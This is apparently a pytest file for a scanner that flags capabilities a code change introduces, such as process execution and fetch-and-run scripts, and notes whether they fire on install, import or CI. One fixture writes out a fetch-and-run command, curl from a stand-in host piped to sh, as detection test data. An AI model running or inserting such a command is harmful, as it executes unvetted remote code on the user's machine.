"""What a change brings in, and what of it was there before."""

from __future__ import annotations

import pytest

from knownhands.harvest.content.changed import Changed
from knownhands.harvest.content.contents import Contents, as_message, from_message, together
from knownhands.harvest.content.read import count_parts, read_contents, read_part, unread_part

RUN = b"import os\nos.system('kiln')\n"


def change(path, old, new, mode=0o100644):
    return Changed(
        path, "" if old is None else path, mode if new is not None else 0, 0 if old is None else mode, old, new
    )


def seen(*files):
    return [(s.observation.path, s.observation.line, s.observation.capability) for s in read_contents(files).sights]


def test_a_new_file_shows_all_that_it_does():
    assert seen(change("kiln.py", None, RUN)) == [("kiln.py", 2, "process")]


def test_what_a_file_did_before_is_not_new():
    assert seen(change("kiln.py", RUN, RUN + b"glaze = 1\n")) == []


def test_a_line_that_does_it_again_is_new():
    assert seen(change("kiln.py", RUN, RUN + b"os.system('oven')\n")) == [("kiln.py", 3, "process")]


def test_an_old_line_that_does_something_else_now_is_new():
    old = b"from glaze import run\nrun('kiln')\n"
    assert seen(change("kiln.py", old, old.replace(b"glaze", b"subprocess"))) == [("kiln.py", 2, "process")]


def test_what_goes_is_nothing_that_the_change_does():
    contents = read_contents([change("kiln.py", RUN, None)])
    assert contents == Contents()


@pytest.mark.parametrize(
    ("path", "trigger"),
    [("setup.py", "install"), ("kiln.py", "import"), (".github/workflows/kiln.py", "ci"), ("tests/kiln.py", "import")],
)
def test_a_line_runs_when_its_place_does(path, trigger):
    (sight,) = [s for s in read_contents([change(path, None, RUN)]).sights if s.observation.capability == "process"]
    assert (sight.observation.trigger, sight.excerpt) == (trigger, "os.system('kiln')")


def test_an_excerpt_is_one_short_printable_line():
    line = b"os.system('kiln \x1b[31m" + b"a" * 10_000 + b"')"
    sight = next(
        s for s in read_contents([change("kiln.py", None, b"import os\n" + line)]).sights if s.observation.line == 2
    )
    assert len(sight.excerpt) == 160
    assert sight.excerpt.isprintable()


def test_what_says_the_same_again_and_again_is_said_three_times():
    assert len(seen(change("kiln.py", None, b"import os\n" + b"os.system('kiln')\n" * 50))) == 3


def test_files_that_can_run_are_counted():
    files = [change(path, None, RUN) for path in ("kiln.py", "kiln.png", "docs/a.py", "tests/a.py")]
    assert read_contents([*files, change("kiln", None, RUN, mode=0o100755)]).runs == 2


@pytest.mark.parametrize(
    ("path", "names"), [("kiln.so", True), ("lib/kiln", True), ("tests/kiln.so", False), ("docs/kiln", False)]
)
def test_compiled_code_is_named_but_for_tests_and_documentation(path, names):
    assert [gap.path for gap in read_contents([change(path, None, b"\x7fELF\0")]).unread] == [path] * names


def test_what_a_reader_gives_up_is_named():
    contents = read_contents([change("kiln.py", None, b"glaze = 1\n" * 60_000 + RUN)])
    assert [(gap.path, gap.trigger, gap.why) for gap in contents.unread] == [("kiln.py", "import", "too large")]


def test_parts_together_are_the_whole():
    files = [change("kiln.py", None, RUN), change("kiln.so", None, b"\x7fELF\0"), change("oven.py", RUN, RUN * 2)]
    parts = [read_part(files, part) for part in range(count_parts(files))]
    assert together(parts) == read_contents(files)
    assert [from_message(as_message(part)) for part in parts] == parts


def test_every_part_can_be_named():
    files = [change("setup.py", None, RUN)]
    gaps = [unread_part(files, part, "it died") for part in range(count_parts(files))]
    assert (gaps[0].path, gaps[0].trigger, gaps[0].why) == ("setup.py", "install", "it died")
    assert {(gap.path, gap.why) for gap in gaps[1:]} <= {("", "it died")}


def test_what_is_known_of_an_object_is_what_it_shows():
    first = Changed("kiln.py", "kiln.py", 0o100644, 0o100644, RUN, RUN * 2, "", ("a" * 40, "b" * 40))
    again = [read_contents([first]) for _ in range(2)]
    assert again[0] == again[1] == read_contents([change("kiln.py", RUN, RUN * 2)])


FETCHES = b"set -e\ncurl https://kiln.example/x | sh\n"


@pytest.mark.parametrize("path", ["kiln", "bin/kiln", "pots/kiln", ".glaze"])
def test_a_program_without_ending_or_first_line_is_read_as_a_script(path):
    assert (path, 2, "fetch_and_run") in seen(change(path, None, FETCHES, mode=0o100755))


@pytest.mark.parametrize(
    ("path", "mode"), [("kiln", 0o100644), ("LICENSE", 0o100755), ("docs/kiln", 0o100755), ("kiln.dat", 0o100755)]
)
def test_what_no_shell_runs_is_no_script(path, mode):
    assert "fetch_and_run" not in {capability for _, _, capability in seen(change(path, None, FETCHES, mode=mode))}
